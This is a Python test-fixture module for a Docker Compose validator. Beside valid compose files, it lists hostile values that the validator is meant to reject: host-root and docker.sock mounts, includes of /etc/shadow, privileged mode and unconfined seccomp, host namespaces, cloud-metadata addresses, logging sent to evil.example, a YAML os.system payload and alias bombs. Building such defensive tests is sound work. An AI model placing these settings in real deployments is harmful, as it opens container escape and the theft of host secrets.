"""Compose files that try to gain access to the host, and valid ones of ordinary applications.

Used by the unit tests of the rules and by the releases in the sandbox.
"""

from __future__ import annotations

import copy
from collections.abc import Mapping
from typing import Any

import yaml

GOOD = """\
name: ${APP_NAME:-shop}
x-release: {health: /up, drain: 1m30s, migrate: [python3, migrate.py]}
services:
  web:
    image: ${APP_IMAGE:-shop:development}
    env_file: .env
    ports:
      - 127.0.0.1:${APP_PORT:-8000}:8000
    healthcheck:
      test: [CMD, "true"]
  worker:
    image: ${APP_IMAGE}
    command: [work]
  db:
    image: postgres:17
    ports: ["127.0.0.1:5432:5432"]
    volumes: [data:/var/lib/postgresql]
volumes:
  data:
"""

ORDINARY = {
    "as django writes it": """\
version: "3.9"
x-app: &app
  image: ${APP_IMAGE:-shop:development}
  env_file:
    - path: .env
      required: false
  environment: &env
    DJANGO_SETTINGS_MODULE: shop.settings
    DATABASE_URL: postgres://shop:${DATABASE_PASSWORD}@db:5432/shop
    CACHE: ${CACHE_URL:-redis://redis:6379/0}
    WEB_CONCURRENCY: 3
    DEBUG: "off"
  depends_on:
    db: {condition: service_healthy}
    redis: {condition: service_started}
  restart: unless-stopped
  logging: &logging
    driver: json-file
    options: {max-size: "10m", max-file: "3"}
services:
  web:
    <<: *app
    command: gunicorn shop.wsgi --bind 0.0.0.0:8000
    ports: ["127.0.0.1:${APP_PORT:-8000}:8000"]
    volumes: [media:/srv/media]
    healthcheck:
      test: ["CMD-SHELL", "curl -f http://localhost:8000/up || exit 1"]
      interval: 10s
      timeout: 5s
      retries: 5
      start_period: 30s
  worker:
    <<: *app
    command: celery -A shop worker --loglevel=info
    environment:
      <<: *env
      QUEUES: default,mail
    deploy:
      replicas: 2
      resources: {limits: {cpus: "0.50", memory: 512M}}
  beat:
    <<: *app
    command: celery -A shop beat
    logging: *logging
  db:
    image: postgres:16-alpine
    environment:
      - POSTGRES_USER=shop
      - POSTGRES_PASSWORD=${DATABASE_PASSWORD}
    volumes: ["pgdata:/var/lib/postgresql/data"]
    shm_size: 128mb
    healthcheck:
      test: ["CMD-SHELL", "pg_isready -U $$POSTGRES_USER"]
      interval: 5s
      retries: 10
  redis:
    image: redis:7-alpine
    command: redis-server --appendonly yes
    volumes: [{type: volume, source: redis, target: /data}]
    sysctls: {net.core.somaxconn: 1024}
    ulimits: {nofile: {soft: 10000, hard: 20000}}
    networks: [back]
networks:
  back: {driver: bridge, internal: true}
volumes:
  media: {}
  pgdata: {driver: local}
  redis:
""",
    "as rails writes it": """\
services:
  web: &base
    build: {context: ., args: {RUBY: "3.4"}}
    image: ${APP_IMAGE}
    init: true
    tty: true
    user: "1000:1000"
    working_dir: /rails
    read_only: true
    tmpfs: ["/tmp:size=64m", /rails/tmp]
    cap_drop: [ALL]
    security_opt: ["no-new-privileges:true"]
    environment:
      RAILS_MASTER_KEY: ${RAILS_MASTER_KEY}
      AWS_ACCESS_KEY_ID: ${S3_KEY:-}
    ports: ["127.0.0.1:${APP_PORT:-3000}:3000"]
    healthcheck: {test: [CMD, curl, -f, "http://localhost:3000/up"]}
    stop_grace_period: 30s
    stop_signal: SIGTERM
    labels: {team: shop}
    mem_limit: 1g
    cpus: 0.5
    pids_limit: 200
    hostname: web
    networks: {default: {aliases: [api]}}
  jobs:
    image: ${APP_IMAGE}
    command: bin/jobs
    environment: [RAILS_MASTER_KEY]
    container_name: shop-jobs
    restart: on-failure:5
    depends_on: [mysql]
  console:
    image: ${APP_IMAGE}
    profiles: [tools]
    stdin_open: true
  mysql:
    image: mysql:8.4@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
    restart: always
    command: --default-authentication-plugin=mysql_native_password
    cap_add: [SYS_CHROOT]
    expose: ["3306"]
    volumes: ["mysql:/var/lib/mysql"]
  search:
    image: docker.elastic.co/elasticsearch/elasticsearch:8.17.0
    environment: {discovery.type: single-node, ES_JAVA_OPTS: "-Xms512m -Xmx512m"}
    ulimits: {memlock: {soft: -1, hard: -1}}
    ports: [{target: 9200, published: "9200", host_ip: 127.0.0.1}]
volumes: {mysql: }
""",
}
"""Typical files, which must be accepted."""

ORDINARY_SECRETS = ("DATABASE_PASSWORD", "RAILS_MASTER_KEY")

Attack = tuple[str, tuple[str, ...], Any]
DELETE = object()


def _in_worker(title: str, key: str, *values: Any) -> list[Attack]:
    return [(f"{title}: {value!r}"[:90], ("services", "worker", key), value) for value in values]


ATTACKS: list[Attack] = [
    # Files of the host, read by Compose.
    ("include /etc/shadow", ("include",), ["/etc/shadow"]),
    ("include from afar", ("include",), ["oci://evil.example/x"]),
    ("include by path", ("include",), [{"path": "/etc/passwd", "env_file": "/etc/shadow"}]),
    ("include one text", ("include",), "/etc/shadow"),
    *_in_worker("extends a file", "extends", {"file": "/etc/shadow", "service": "x"}, "web"),
    *_in_worker(
        "environment of a file",
        "env_file",
        "/etc/shadow",
        "/root/.env",
        "../.env",
        "x/.env",
        [".env", "/etc/environment"],
        [{"path": "/etc/shadow", "required": False}],
        [{"path": ".env", "format": "raw"}],
        {"path": "/etc/shadow"},
        "~/.env",
        "${HOME}/.env",
        ".env\n",
    ),
    *_in_worker("labels of a file", "label_file", "/etc/shadow", ["/etc/shadow"]),
    ("secret from a file", ("secrets",), {"k": {"file": "/etc/shadow"}}),
    ("secret from the environment", ("secrets",), {"k": {"environment": "AWS_SECRET_ACCESS_KEY"}}),
    ("secret from outside", ("secrets",), {"k": {"external": True}}),
    ("configuration from a file", ("configs",), {"k": {"file": "/etc/shadow"}}),
    ("configuration from the environment", ("configs",), {"k": {"environment": "HOME"}}),
    ("configuration with text", ("configs",), {"k": {"content": "${HOME}"}}),
    *_in_worker("a secret's mount", "secrets", ["k"], [{"source": "k", "target": "/etc/x"}]),
    *_in_worker("a configuration's mount", "configs", ["k"]),
    ("models", ("models",), {"m": {"model": "ai/x"}}),
    *_in_worker("models", "models", ["m"]),
    *_in_worker("provider", "provider", {"type": "sh", "options": {"x": "y"}}),
    *_in_worker("develop", "develop", {"watch": [{"path": "/", "action": "sync", "target": "/x"}]}),
    # Mounts.
    *[
        (f"mount {mount!r}"[:90], ("services", "db", "volumes"), [mount])
        for mount in (
            "/:/host",
            "/etc:/etc:ro",
            "/data:ro",
            "/etc:rw",
            "./data:/data",
            "../x:/x",
            "~/x:/x",
            "~:/x",
            ".:/x",
            "/var/run/docker.sock:/var/run/docker.sock",
            "${X:-/}:/host",
            "$X:/host",
            "data:/x:rshared",
            "data:/x:z",
            "data:/x:ro,rslave",
            "data:/x:/y",
            "data:x",
            "C:\\x:/x",
            "c:/x:/x",
            "\\\\.\\pipe\\x:/x",
            "a/b:/x",
            "data",
            "",
            ":/x",
            "unknown:/x",
            "-data:/x",
            "data:/a:/b:ro",
            7,
            None,
            ["data:/x"],
            {"type": "bind", "source": "/", "target": "/host"},
            {"type": "bind", "source": "data", "target": "/host"},
            {"type": "npipe", "source": "x", "target": "/x"},
            {"type": "cluster", "source": "x", "target": "/x"},
            {"type": "image", "source": "x:1", "target": "/x"},
            {"type": "Volume", "source": "data", "target": "/x"},
            {"type": "volume", "source": "/", "target": "/x"},
            {"type": "volume", "source": "/etc", "target": "/x"},
            {"type": "volume", "source": "../x", "target": "/x"},
            {"type": "volume", "source": "other", "target": "/x"},
            {"type": "volume", "source": "data", "target": "/x", "volume": {"subpath": "../.."}},
            {"type": "volume", "source": "data", "target": "/x", "bind": {"propagation": "shared"}},
            {"type": "tmpfs", "target": "/x", "bind": {"create_host_path": True}},
            {"source": "/", "target": "/x"},
            {"type": "volume", "source": "data", "target": "x"},
            {"type": "volume", "source": "data", "target": "/x", "consistency": "delegated"},
        )
    ],
    *_in_worker("mounts of another", "volumes_from", ["container:other"], ["db"], ["db:ro"]),
    *_in_worker("tmpfs", "tmpfs", "x", "/x:bind", "/x:/y", [{"a": 1}], "$X")[1:],
    *[
        (f"volume {said!r}"[:90], ("volumes", "data"), said)
        for said in (
            {"driver_opts": {"type": "none", "o": "bind", "device": "/"}},
            {"driver": "local", "driver_opts": {"o": "bind", "type": "none", "device": "/etc"}},
            {"driver_opts": {"type": "nfs", "o": "addr=169.254.169.254", "device": ":/"}},
            {"driver_opts": {"type": "overlay", "device": "overlay", "o": "lowerdir=/"}},
            {"driver": "sshfs"},
            {"driver": "${X:-sshfs}"},
            {"name": "/", "external": True},
            {"name": "/etc"},
            {"name": "other_data"},
            {"name": "shop_data"},
            {"external": True},
            {"external": {"name": "other_data"}},
            {"external": "true"},
            {"labels": {"com.docker.compose.project": "other"}},
            {"newest": 1},
            "x",
            ["x"],
        )
    ],
    ("volumes that are a list", ("volumes",), ["data"]),
    ("a volume's name as an option", ("volumes",), {"data": None, "--x": None}),
    ("a volume's name as a path", ("volumes",), {"data": None, "/etc": None}),
    # Networks and namespaces.
    *[
        (f"network {said!r}"[:90], ("networks",), {"h": said})
        for said in (
            {"external": True, "name": "host"},
            {"external": True},
            {"external": {"name": "host"}},
            {"name": "host"},
            {"name": "bridge"},
            {"name": "container:x"},
            {"name": "none"},
            {"driver": "host"},
            {"driver": "macvlan", "driver_opts": {"parent": "eth0"}},
            {"driver": "ipvlan"},
            {"driver": "overlay"},
            {"driver": "none"},
            {"driver_opts": {"com.docker.network.bridge.name": "docker0"}},
            {"driver_opts": {"com.docker.network.bridge.host_binding_ipv4": "0.0.0.0"}},
            {"ipam": {"config": [{"subnet": "169.254.169.0/24", "gateway": "169.254.169.254"}]}},
            {"attachable": True},
            {"enable_ipv6": True},
            {"config_only": True},
            {"labels": ["com.docker.compose.network=default"]},
        )
    ],
    ("the default network is the host's", ("networks",), {"default": {"name": "host"}}),
    *_in_worker(
        "networks of the service",
        "networks",
        ["host"],
        ["bridge"],
        {"default": {"ipv4_address": "172.17.0.1"}},
        {"default": {"mac_address": "02:42:ac:11:00:01"}},
        {"default": {"driver_opts": {"com.docker.network.endpoint.sysctls": "x"}}},
        {"default": {"link_local_ips": ["169.254.169.254"]}},
        {"default": {"aliases": ["--x"]}},
        ["${X:-host}"],
    ),
    *_in_worker(
        "network mode",
        "network_mode",
        "host",
        "container:x",
        "service:db",
        "ns:/proc/1/ns/net",
        "bridge",
        "default",
        "${X:-host}",
        "Host",
        ["host"],
    ),
    *_in_worker("pid", "pid", "host", "container:x", "service:db", "${X:-host}"),
    *_in_worker("ipc", "ipc", "host", "shareable", "container:x", "service:db"),
    *_in_worker("uts", "uts", "host", "${X:-host}"),
    *_in_worker("user namespace", "userns_mode", "host"),
    *_in_worker("control groups", "cgroup", "host"),
    *_in_worker("control group's parent", "cgroup_parent", "/", "system.slice"),
    *_in_worker("links to others", "external_links", ["other:db"]),
    *_in_worker("links", "links", ["db", "db:x"]),
    *_in_worker(
        "names of addresses",
        "extra_hosts",
        ["host.docker.internal:host-gateway"],
        {"metadata": "169.254.169.254"},
        ["x=127.0.0.1"],
    ),
    *_in_worker("name servers", "dns", "169.254.169.253", ["127.0.0.53"]),
    *_in_worker("search domains", "dns_search", ["internal"]),
    *_in_worker("MAC address", "mac_address", "02:42:ac:11:00:01"),
    # Privileges.
    *_in_worker("privileged", "privileged", True, "true", "${X:-true}", 1),
    *_in_worker("capabilities", "cap_add", ["ALL"], ["SYS_ADMIN"], ["cap_sys_ptrace"], "ALL", [1]),
    *_in_worker("devices", "devices", ["/dev/kmsg"], ["/dev/sda:/dev/sda:rwm"], [{"source": "/"}]),
    *_in_worker("device rules", "device_cgroup_rules", ["a *:* rwm"]),
    *_in_worker("graphics", "gpus", "all", [{"driver": "nvidia"}]),
    *_in_worker("runtime", "runtime", "other", "io.containerd.runc.v1"),
    *_in_worker("credentials", "credential_spec", {"file": "/etc/shadow"}),
    *_in_worker("isolation", "isolation", "process"),
    *_in_worker("storage", "storage_opt", {"size": "1P"}),
    *_in_worker("block devices", "blkio_config", {"device_read_bps": [{"path": "/dev/sda"}]}),
    *_in_worker("real-time", "cpu_rt_runtime", 950000, "95000us"),
    *_in_worker("OCI annotations", "annotations", {"run.oci.keep_original_groups": "1"}),
    *_in_worker("killed last", "oom_score_adj", -1000, "-1", 5000, True),
    *_in_worker("never killed", "oom_kill_disable", True),
    *_in_worker(
        "security options",
        "security_opt",
        ["seccomp=unconfined"],
        ["apparmor:unconfined"],
        ["label:disable"],
        ["no-new-privileges:false"],
        ["no-new-privileges=false"],
        ["seccomp:/etc/shadow"],
        ["systempaths=unconfined"],
        "x",
    ),
    *_in_worker(
        "kernel settings",
        "sysctls",
        {"kernel.core_pattern": "|/x"},
        ["net.ipv4.ip_forward=1"],
        {"net.ipv4.conf.all.route_localnet": 1},
        {"vm.overcommit_memory": 1},
        "x",
    ),
    *_in_worker("limits", "ulimits", {"rtprio": 99}, {"nice": 40}, {"nofile": "x"}, {"nofile": []}),
    *_in_worker("hooks", "post_start", [{"command": ["x"], "privileged": True, "user": "root"}]),
    *_in_worker("hooks at the end", "pre_stop", [{"command": ["x"], "privileged": True}]),
    *_in_worker(
        "deploy",
        "deploy",
        {"resources": {"reservations": {"devices": [{"capabilities": ["gpu"]}]}}},
        {"resources": {"limits": {"devices": []}, "x": 1}},
        {"placement": {"constraints": ["node.role == manager"]}},
        {"mode": "global"},
        {"replicas": 500},
        {"replicas": "500"},
        {"replicas": -1},
        {"labels": {"com.docker.compose.project": "x"}},
        {"endpoint_mode": "dnsrr"},
        "x",
    ),
    *_in_worker("a key of the future", "newest_feature", True, {"a": 1}, "x", 3.0),
    # Actions of dockerd as root.
    *[
        (f"logging by {said!r}"[:90], ("services", "worker", "logging"), said)
        for said in (
            {"driver": "syslog", "options": {"syslog-address": "unix:///run/docker.sock"}},
            {"driver": "fluentd", "options": {"fluentd-address": "unix:///run/systemd/private"}},
            {"driver": "journald", "options": {"tag": "sshd"}},
            {"driver": "awslogs", "options": {"awslogs-endpoint": "https://evil.example"}},
            {"driver": "splunk", "options": {"splunk-url": "http://127.0.0.1:2019"}},
            {"driver": "gelf", "options": {"gelf-address": "udp://169.254.169.254:80"}},
            {"driver": "gcplogs"},
            {"driver": "etwlogs"},
            {"driver": "none"},
            {"driver": "evil/plugin:1"},
            {"driver": "${X:-syslog}"},
            {"driver": "json-file", "options": {"env": "HOME"}},
            {"driver": "json-file", "options": {"labels-regex": ".*"}},
            {"driver": "local", "options": {"syslog-address": "unix:///run/docker.sock"}},
            {"driver": "json-file", "options": {"max-size": "-1"}},
            {"driver": "json-file", "options": {"max-size": "999g"}},
            {"driver": "json-file", "options": {"max-size": "101m"}},
            {"driver": "json-file", "options": {"max-size": None}},
            {"driver": "local", "options": {"mode": "non-blocking", "max-buffer-size": "999999g"}},
            {"driver": "local", "options": {"mode": "non-blocking", "max-buffer-size": "17m"}},
            {"driver": "json-file", "options": {"max-buffer-size": 999999999}},
            {"driver": "json-file", "options": {"max-buffer-size": None}},
            {"driver": "local", "options": {"max-file": "1000"}},
            {"driver": "json-file", "options": "x"},
            "syslog",
        )
    ],
    *_in_worker(
        "labels that are reserved",
        "labels",
        {"com.docker.compose.project": "other"},
        ["com.docker.compose.oneoff=True"],
        {"daybook.release": "x"},
        ["Daybook.release=x"],
        {"COM.docker.compose.service": "web"},
        {"": "x"},
        ["x${HOME}=1"],
        {"x": "${HOME}"},
        "x",
        {"x": {"y": 1}},
    ),
    *_in_worker("container's name", "container_name", "--privileged", "../x", "a b", "${X}", ["x"]),
    *_in_worker("the slot's name", "container_name", "shop-web-green-1", "shop_web-blue_1", "a-07"),
    *_in_worker("host's name", "hostname", "--x", "a b", "x\ny", "${HOSTNAME}"),
    # Images.
    *[
        (f"image {image!r}"[:90], ("services", service, "image"), image)
        for service in ("worker", "db")
        for image in (
            "${APP_IMAGE:+other/image}",
            "${APP_IMAGE+other/image}",
            "${APP_IMAGE:?}",
            "${APP_IMAGE}x",
            "x${APP_IMAGE}",
            "${APP_IMAGE:-${HOME}}",
            "${app_image}",
            "${OTHER}",
            "$$APP_IMAGE",
            "postgres",
            "postgres:latest",
            "--privileged",
            "-v/:/x:1",
            "127.0.0.1:2019/x:1",
            "127.0.0.1/x:1",
            "localhost/x:1",
            "localhost:5000/x:1",
            "169.254.169.254/x:1",
            "[::1]/x:1",
            "metadata.google.internal/x:1",
            "a.localhost/x:1",
            "evil.example:8080/x:1",
            "x:1 --privileged",
            "../x:1",
            "x/../y:1",
            "X:1",
            "x:1\n",
            "sha256:" + "0" * 64,
            "x@sha256:12",
            "x@sha512:" + "0" * 128,
            "",
            None,
            7,
            ["x:1"],
        )
    ],
    ("web runs another image", ("services", "web", "image"), "evil:1"),
    # Variables of root's process, and interpolated text.
    *[
        (f"variable in {'.'.join(path)}: {value!r}"[:90], path, value)
        for path, value in (
            (("services", "worker", "command"), "x ${HOME}"),
            (("services", "worker", "command"), ["x", "$PATH"]),
            (("services", "worker", "entrypoint"), ["${X:-sh}"]),
            (("services", "worker", "user"), "${X:-root}"),
            (("services", "worker", "working_dir"), "/${X}"),
            (("services", "worker", "platform"), "${X}"),
            (("services", "worker", "restart"), "${X:-always}"),
            (("services", "worker", "scale"), "${X:-500}"),
            (("services", "worker", "healthcheck"), {"test": "${X}"}),
            (("services", "worker", "environment"), {"A": "${"}),
            (("services", "worker", "environment"), {"A": "${X"}),
            (("services", "worker", "environment"), {"A": "$1"}),
            (("services", "worker", "environment"), {"A": "${X!x}"}),
            (("services", "worker", "environment"), {"A": "${X:-${Y:-${Z:-${A:-${B:-}}}}}"}),
            (("services", "worker", "environment"), {"A-": {"b": 1}}),
            (("services", "worker", "environment"), {"": "x"}),
            (("services", "worker", "environment"), ["=x"]),
            (("services", "worker", "environment"), ["A B=x"]),
            (("services", "worker", "environment"), [{"A": 1}]),
            (("services", "worker", "environment"), "HOME"),
            (("services", "worker", "profiles"), ["${X}"]),
            (("volumes",), {"data": {"labels": {"x": "${HOME}"}}}),
        )
    ],
    *_in_worker("pull policy", "pull_policy", "build", "daily", "every_1s"),
    *_in_worker("platform", "platform", "windows/amd64", "--x", 1),
    *_in_worker("depends on", "depends_on", ["other"], {"db": {"condition": "x"}}, "db", ["--x"]),
    *_in_worker("profiles", "profiles", ["--x"], "x"),
    # Ports.
    *[
        (f"port {port!r}"[:90], ("services", "db", "ports"), [port])
        for port in (
            "5432:5432",
            "5432",
            5432,
            "0.0.0.0:5432:5432",
            "127.0.0.2:5432:5432",
            "127.0.0.53:5353:53",
            "127.0.0.1.evil.example:5432:5432",
            "127.0.0.1:80:80",
            "127.0.0.1:443:443",
            "127.0.0.1:2019:80",
            "127.0.0.1:5000-6000:5000-6000",
            "127.0.0.1::5432",
            "127.0.0.1:5432:0",
            "127.0.0.1:5432:99999",
            "127.0.0.1:99999:1",
            "127.0.0.1:05432:5432x",
            "[::]:5432:5432",
            "${X:-0.0.0.0}:5432:5432",
            "127.0.0.1:${X:-80}:80",
            {"target": 5432, "published": "5432"},
            {"target": 5432, "published": "5432", "host_ip": "0.0.0.0"},
            {"target": 5432, "published": "5432", "host_ip": ""},
            {"target": 53, "published": "53", "host_ip": "127.0.0.1"},
            {"target": 53, "published": "5000-6000", "host_ip": "127.0.0.1"},
            {"target": 53, "host_ip": "127.0.0.1"},
            {"published": "5432", "host_ip": "127.0.0.1"},
            {"target": 1, "published": "2019", "host_ip": "127.0.0.1", "x": 1},
            None,
        )
    ],
    *[
        (f"web's port {ports!r}"[:90], ("services", "web", "ports"), ports)
        for ports in (
            ["${APP_PORT:-8000}:8000"],
            ["0.0.0.0:${APP_PORT:-8000}:8000"],
            ["127.0.0.1:${APP_PORT:-80}:8000", "0.0.0.0:80:80"],
            ["127.0.0.1:${APP_PORT:+80}:8000"],
            ["127.0.0.1:${APP_PORT}-9000:8000"],
            ["127.0.0.1:${APP_PORT:-8000}:0"],
            "127.0.0.1:${APP_PORT:-8000}:8000",
            {"a": 1},
            7,
        )
    ],
    # Limits.
    *[
        (f"a health check for long: {check!r}"[:90], ("services", "web", "healthcheck"), check)
        for check in (
            {"test": "x", "start_period": "10h"},
            {"test": "x", "retries": 1000, "interval": "10s", "timeout": "1s"},
            {"test": "x", "retries": 10**9},
            {"test": "x", "retries": "1" * 400},
            {"test": "x", "interval": "5m", "retries": 3},
            {"test": "x", "timeout": "99999h"},
            {"test": "x", "start_period": "1d"},
            {"test": "x", "start_period": "1e9s"},
            {"test": "x", "start_period": 36000},
            {"test": "x", "start_period": "-10s"},
            {"test": "x", "start_period": "9" * 300 + "s"},
            {"test": "NONE"},
            {"test": ["NONE"]},
            {"test": ["NONE", "x"]},
            {"test": ["none", "x"]},
            {"test": ["CMD"]},
            {"test": [["CMD"], "x"]},
            {"test": 5},
            {"interval": "5s"},
            {"test": "x", "interval": "1ms", "timeout": "1ms", "retries": 1000},
            {"test": "x", "interval": "0.0001us"},
            {"test": "x", "interval": "999ms"},
            {"test": "x", "start_interval": "1ms"},
            {"disable": True},
        )
    ],
    *[
        (f"x-release {said!r}"[:90], ("x-release",), said)
        for said in (
            {"drain": "99999h"},
            {"drain": "30h"},
            {"drain": "6m"},
            {"drain": 30},
            {"drain": "soon"},
            {"drain": ["30s"]},
            {"health": "up"},
            {"health": "/up\r\nX: y"},
            {"health": "/" + "x" * 300},
            {"version": "http://evil.example/"},
            {"web": "--privileged"},
            {"web": "nothing"},
            {"web": ["web"]},
            {"migrate": {"a": "b"}},
            {"migrate": True},
            {"migrate": 5},
            {"migrate": 1.5},
            {"migrate": [["a"]]},
            {"hooks": "x"},
            "x",
            ["x"],
        )
    ],
    *_in_worker("grace to stop", "stop_grace_period", "1h", "99999h", "x", 10),
    *_in_worker("more of the processor", "cpu_shares", 262144, "1025", -1),
    *_in_worker("processes without end", "pids_limit", -1, 0, "-1", 4097, 2**22, True),
    *_in_worker(
        "processes of deploy",
        "deploy",
        {"resources": {"limits": {"pids": -1}}},
        {"resources": {"limits": {"pids": 2**22}}},
    ),
    *_in_worker("copies", "scale", 500, "500", 11, -1, "x", 1.5),
    ("twenty-one services", ("services",), {f"s{n}": {"image": "x:1"} for n in range(21)}),
    (
        "many containers of few services",
        ("services",),
        {f"s{n}": {"image": "x:1", "scale": 10} for n in range(3)},
    ),
    ("two copies of the web service", ("services", "web", "scale"), 2),
    ("many ports", ("services", "db", "ports"), [f"127.0.0.1:{n}:80" for n in range(3000, 3011)]),
    # Names.
    ("a service that is an option", ("services", "--privileged"), {"image": "x:1"}),
    ("a service that is a path", ("services", "../x"), {"image": "x:1"}),
    ("a service with a space", ("services", "a b"), {"image": "x:1"}),
    ("a service without a name", ("services", ""), {"image": "x:1"}),
    ("a service called like a slot", ("services", "web-green"), {"image": "x:1"}),
    ("a service that is no mapping", ("services", "x"), "image"),
    ("a service that is nothing", ("services", "x"), None),
    ("services that are a list", ("services",), [{"image": "x:1"}]),
    ("services that are nothing", ("services",), None),
    ("a top-level key of the future", ("newest",), {"x": 1}),
]
"""Title, path in GOOD, and the value there."""

TEXTS = {
    "a letter above all": GOOD + 'x-a: "\\UFFFFFFFF"\n',
    "a letter above Unicode": GOOD + 'x-a: "\\U00110000"\n',
    "a version of YAML in five thousand digits": f"%YAML 1.{'1' * 5000}\n---\n" + GOOD,
    "two documents": GOOD + "---\nservices: {}\n",
    "a key twice": GOOD.replace("  worker:\n", "  worker:\n    image: ${APP_IMAGE}\n", 1),
    "services twice": GOOD + "services: {x: {image: 'x:1', privileged: true}}\n",
    "a reset tag": GOOD.replace("command: [work]", "command: !reset null"),
    "an override tag": GOOD.replace("command: [work]", "command: !override [x]"),
    "a Python object": GOOD.replace("[work]", "!!python/object/apply:os.system [id]"),
    "a binary value": GOOD.replace("[work]", "!!binary aGk="),
    "a named tag": "%TAG ! tag:yaml.org,2002:\n---\n" + GOOD,
    "another version of YAML": "%YAML 1.1\n---\n" + GOOD,
    "an alias to itself": GOOD + "x-a: &a [*a]\n",
    "an alias to what comes later": GOOD + "x-a: *b\nx-b: &b 1\n",
    "a merge of itself": GOOD + "x-a: &a\n  <<: *a\n",
    "a merge of a list": GOOD + "x-a: &a [1]\nx-b:\n  <<: *a\n",
    "a quoted merge": GOOD + 'x-a: &a {b: 1}\nx-b:\n  "<<": *a\n',
    "a merge twice": GOOD + "x-a: &a {b: 1}\nx-b:\n  <<: *a\n  <<: *a\n",
    "privileged by a merge": GOOD.replace(
        "    command: [work]\n", "    <<: {privileged: true}\n    command: [work]\n"
    ),
    "privileged by a merge of two": "x-a: &a {privileged: true}\n"
    + GOOD.replace("    command: [work]\n", "    <<: [{init: true}, *a]\n"),
    "privileged by an anchor": "x-a: &a {image: 'x:1', privileged: true}\n"
    + GOOD.replace("  db:\n", "  evil: *a\n  db:\n"),
    "a bomb of aliases": GOOD
    + "x-a: &a [x, x, x, x, x, x, x, x, x]\n"
    + "".join(
        f"x-{n}: &{n} [{', '.join(['*' + m] * 9)}]\n"
        for m, n in zip("abcdefgh", "bcdefghi", strict=True)
    ),
    "many aliases": GOOD + f"x-a: &a 1\nx-b: [{', '.join(['*a'] * 101)}]\n",
    "a thousand levels": GOOD + "x-a: " + "[" * 1000 + "]" * 1000 + "\n",
    "a thousand levels of mappings": GOOD + "x-a: " + "{a: " * 1000 + "}" * 1000 + "\n",
    "many values": GOOD + "x-a: [" + "1, " * 6000 + "]\n",
    "a megabyte of comments": GOOD + "# x\n" * 300_000,
    "a megabyte in one value": GOOD + f"x-a: {'x' * 1_000_000}\n",
    "a key that is a number": GOOD + "7: x\n",
    "a key that is nothing": GOOD + "~: x\n",
    "a key that is a list": GOOD + "? [a, b]\n: x\n",
    "a key that is a mapping": GOOD + "? {a: b}\n: x\n",
    "a key that is an alias": GOOD + "x-a: &a services\n*a : {}\n",
    "a long key": GOOD + f"x-{'a' * 300}: x\n",
    "a NUL": GOOD + 'x-a: "\\0"\n',
    "an escape of a terminal": GOOD + 'x-a: "\\e[2J"\n',
    "half a character": GOOD + 'x-a: "\\ud800"\n',
    "a raw control character": GOOD + "x-a: \x07\n",
    "a number to some": GOOD + "x-a: 1_000\n",
    "binary digits": GOOD + "x-a: 0b11\n",
    "not a number": GOOD + "x-a: .nan\n",
    "infinity": GOOD + "x-a: -.inf\n",
    "octal or not": GOOD + "x-a: 089\n",
    "a huge number": GOOD + f"x-a: {'9' * 400}\n",
    "a tab": GOOD + "x-a:\n\tb: 1\n",
    "an open bracket": GOOD + "x-a: [\n",
    "nothing": "",
    "a comment": "# x\n",
    "a list": "- a\n",
    "one value": "services\n",
    "null": "null\n",
    "JSON with a key twice": '{"services": {}, "services": {"x": {"privileged": true}}}',
    "a byte order mark inside": GOOD + "x-a: \ufeffx\n",
}
"""Title and complete text."""


def attacked(path: tuple[str, ...], value: Any) -> dict[str, Any]:
    """Return GOOD with a value at a path."""
    model = copy.deepcopy(yaml.safe_load(GOOD))
    node = model
    for key in path[:-1]:
        if not isinstance(node.get(key), Mapping):
            node[key] = {}
        node = node[key]
    node[path[-1]] = value
    return model
